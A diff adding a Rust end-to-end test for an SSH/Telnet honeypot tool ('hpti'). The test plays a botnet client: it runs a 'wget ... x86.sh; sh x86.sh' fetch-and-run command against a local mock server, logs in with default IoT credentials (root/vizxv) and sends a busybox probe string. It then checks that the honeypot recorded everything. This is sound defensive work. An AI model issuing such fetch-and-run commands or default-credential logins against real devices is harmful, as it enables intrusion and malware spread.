@@ -1,0 +1,235 @@
+//! The issue's "done when", end to end: `hpti run`, then OpenSSH's `ssh` (with `sshpass`)
+//! and a raw-socket Telnet client use the honeypots, one of them fetching a file from a
+//! local HTTP server the config allows; after a clean shutdown `hpti query sessions`,
+//! `commands` and `downloads` show what was done, with the file's sha256.
+
+#![allow(clippy::unwrap_used, clippy::expect_used)] // tests panic on failure by design
+
+use std::io::{BufRead, BufReader, Read, Write};
+use std::net::TcpStream;
+use std::process::{Command, Stdio};
+use std::time::{Duration, Instant};
+
+use sha2::{Digest, Sha256};
+
+fn hpti() -> Command {
+    let mut command = Command::new(env!("CARGO_BIN_EXE_hpti"));
+    command.env("HPTI_LOG", "info");
+    command
+}
+
+/// An external tool, or a loud skip (a failure under `HPTI_REQUIRE_SERVICES=1`).
+fn tool(name: &str) -> bool {
+    let found = Command::new("sh")
+        .args(["-c", &format!("command -v {name}")])
+        .output()
+        .map(|o| o.status.success())
+        .unwrap_or(false);
+    if !found {
+        if std::env::var("HPTI_REQUIRE_SERVICES").as_deref() == Ok("1") {
+            panic!("{name} is required (HPTI_REQUIRE_SERVICES=1): apt-get install {name}");
+        }
+        eprintln!("\n*** SKIPPED: {name} is not installed ***\n");
+    }
+    found
+}
+
+/// Reads from `stream` until `needle` shows up (bounded).
+fn read_until(stream: &mut TcpStream, needle: &str) -> String {
+    let mut seen = Vec::new();
+    let deadline = Instant::now() + Duration::from_secs(20);
+    let mut buffer = [0u8; 4096];
+    while !String::from_utf8_lossy(&seen).contains(needle) {
+        assert!(
+            Instant::now() < deadline,
+            "no {needle:?} in {:?}",
+            String::from_utf8_lossy(&seen)
+        );
+        match stream.read(&mut buffer) {
+            Ok(0) => break,
+            Ok(n) => seen.extend_from_slice(&buffer[..n]),
+            Err(e)
+                if e.kind() == std::io::ErrorKind::WouldBlock
+                    || e.kind() == std::io::ErrorKind::TimedOut => {}
+            Err(e) => panic!("{e}"),
+        }
+    }
+    String::from_utf8_lossy(&seen).into_owned()
+}
+
+fn query(config: &std::path::Path, what: &str) -> serde_json::Value {
+    let output = hpti()
+        .arg("--config")
+        .arg(config)
+        .args(["query", what, "--format", "json"])
+        .output()
+        .unwrap();
+    assert!(
+        output.status.success(),
+        "{}",
+        String::from_utf8_lossy(&output.stderr)
+    );
+    serde_json::from_slice(&output.stdout).unwrap()
+}
+
+#[test]
+fn run_then_ssh_and_telnet_then_query_shows_what_was_done() {
+    if !tool("ssh") || !tool("sshpass") {
+        return;
+    }
+    let runtime = tokio::runtime::Builder::new_multi_thread()
+        .worker_threads(1)
+        .enable_all()
+        .build()
+        .unwrap();
+    let payload = b"#!/bin/sh\necho fetched-by-the-honeypot\n".to_vec();
+    let server = runtime.block_on(async {
+        let server = wiremock::MockServer::start().await;
+        wiremock::Mock::given(wiremock::matchers::path("/x86.sh"))
+            .respond_with(wiremock::ResponseTemplate::new(200).set_body_bytes(payload.clone()))
+            .mount(&server)
+            .await;
+        server
+    });
+
+    let dir = tempfile::tempdir().unwrap();
+    let config = dir.path().join("hpti.toml");
+    std::fs::write(
+        &config,
+        format!(
+            "[data]\ndir = {:?}\n\n[metrics]\nenabled = false\n\n\
+             [sensors.ssh]\nlisten = \"127.0.0.1:0\"\n\n\
+             [sensors.telnet]\nlisten = \"127.0.0.1:0\"\nlogin_failure_delay = \"10ms\"\n\n\
+             [honeypot.fetch]\nallow = [\"127.0.0.1/32\"]\n",
+            dir.path().join("data")
+        ),
+    )
+    .unwrap();
+    let mut child = hpti()
+        .arg("--config")
+        .arg(&config)
+        .arg("run")
+        .stderr(Stdio::piped())
+        .spawn()
+        .unwrap();
+    let mut log = BufReader::new(child.stderr.take().unwrap()).lines();
+    let (mut ssh, mut telnet) = (None, None);
+    while ssh.is_none() || telnet.is_none() {
+        let line = log.next().expect("hpti run logs its listeners").unwrap();
+        let addr = || {
+            line.split("listening on ")
+                .nth(1)
+                .map(|rest| rest.split_whitespace().next().unwrap().to_owned())
+        };
+        if line.contains("SSH honeypot listening") {
+            ssh = addr();
+        } else if line.contains("Telnet honeypot listening") {
+            telnet = addr();
+        }
+    }
+    let (ssh, telnet) = (ssh.unwrap(), telnet.unwrap());
+    // Keep draining the log so the child never blocks on a full pipe.
+    let drain = std::thread::spawn(move || log.map_while(Result::ok).count());
+    let ssh_port = ssh.rsplit(':').next().unwrap().to_owned();
+
+    // OpenSSH: an exec session that downloads a file.
+    let url = format!("{}/x86.sh", server.uri());
+    let command = format!("cd /tmp; wget {url}; sh x86.sh");
+    let output = Command::new("sshpass")
+        .args([
+            "-p",
+            "admin123",
+            "ssh",
+            "-o",
+            "StrictHostKeyChecking=no",
+            "-o",
+            "UserKnownHostsFile=/dev/null",
+        ])
+        .args([
+            "-o",
+            "PubkeyAuthentication=no",
+            "-o",
+            "LogLevel=ERROR",
+            "-p",
+            &ssh_port,
+        ])
+        .args(["root@127.0.0.1", &command])
+        .output()
+        .unwrap();
+    let stdout = String::from_utf8_lossy(&output.stdout);
+    assert!(
+        output.status.success(),
+        "{stdout}{}",
+        String::from_utf8_lossy(&output.stderr)
+    );
+    assert!(
+        stdout.contains("fetched-by-the-honeypot"),
+        "the fetched script runs in the emulated shell: {stdout}"
+    );
+
+    // Telnet, as a busybox-style bot: raw socket, IAC bytes ignored.
+    let mut stream = TcpStream::connect(&telnet).unwrap();
+    stream
+        .set_read_timeout(Some(Duration::from_millis(200)))
+        .unwrap();
+    read_until(&mut stream, "login: ");
+    stream.write_all(b"root\r\n").unwrap();
+    read_until(&mut stream, "Password: ");
+    stream.write_all(b"vizxv\r\n").unwrap();
+    read_until(&mut stream, "# ");
+    stream.write_all(b"/bin/busybox ECCHI\r\n").unwrap();
+    let answer = read_until(&mut stream, "applet not found");
+    assert!(answer.contains("ECCHI: applet not found"), "{answer}");
+    stream.write_all(b"exit\r\n").unwrap();
+    let _ = read_until(&mut stream, "logout");
+    drop(stream);
+
+    // A clean shutdown flushes everything to the store.
+    std::thread::sleep(Duration::from_millis(300));
+    assert!(
+        Command::new("kill")
+            .args(["-TERM", &child.id().to_string()])
+            .status()
+            .unwrap()
+            .success()
+    );
+    assert!(child.wait().unwrap().success());
+    drain.join().unwrap();
+
+    let sessions = query(&config, "sessions");
+    let protocols: Vec<&str> = sessions
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|s| s["protocol"].as_str().unwrap())
+        .collect();
+    assert_eq!(protocols.len(), 2, "{sessions}");
+    assert!(
+        protocols.contains(&"ssh") && protocols.contains(&"telnet"),
+        "{sessions}"
+    );
+    assert!(
+        sessions
+            .as_array()
+            .unwrap()
+            .iter()
+            .all(|s| s["logged_in"] == true),
+        "{sessions}"
+    );
+
+    let commands = query(&config, "commands").to_string();
+    assert!(commands.contains(&command), "{commands}");
+    assert!(commands.contains("/bin/busybox ECCHI"), "{commands}");
+
+    let downloads = query(&config, "downloads");
+    let sha256 = format!("{:x}", Sha256::digest(&payload));
+    assert_eq!(downloads[0]["sha256"], sha256, "{downloads}");
+    assert_eq!(downloads[0]["urls"][0], url, "{downloads}");
+    assert_eq!(downloads[0]["size"], payload.len(), "{downloads}");
+    let stored = dir
+        .path()
+        .join("data/artifacts")
+        .join(&sha256[..2])
+        .join(&sha256);
+    assert_eq!(std::fs::read(stored).unwrap(), payload);
+}
